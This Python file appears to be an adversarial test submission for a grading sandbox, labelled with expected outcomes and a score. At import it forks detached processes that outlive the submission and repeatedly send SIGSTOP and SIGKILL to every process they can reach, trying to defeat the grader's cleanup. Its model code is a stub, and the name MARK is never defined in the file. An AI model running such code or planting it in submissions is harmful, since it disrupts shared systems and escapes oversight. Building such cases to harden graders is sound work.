"""Whoever comes to kill what is left of a submission is stopped first.

tries: a process in a session of its own waits for the end of the child and then sends SIGSTOP and SIGKILL to
    everything that it may signal, in an endless loop: a killer that takes on the submission's uid can be hit before
    it strikes, and the grader waits for it.
must: what is left dies, and the grader waits for nobody.
score: 40
process: never
"""

import ctypes
import os

import torch
from torch import nn

child = os.getpid()


def guard():
    ctypes.CDLL(None).prctl(15, MARK.encode(), 0, 0, 0)
    kill = ctypes.CDLL(None).kill
    while kill(child, 0) == 0 and os.getppid() == child:
        pass
    while True:
        for _ in range(1000):
            kill(-1, 19)
        kill(-1, 9)


if os.getuid() != 0:
    for _ in range(2):
        if os.fork() == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
            guard()


def standardise(x):
    return x * 0


class Affine(nn.Module):
    def __init__(self, d):
        super().__init__()
        self.weight, self.bias = nn.Parameter(torch.ones(d)), nn.Parameter(torch.zeros(d))

    def forward(self, x):
        return x * self.weight + self.bias
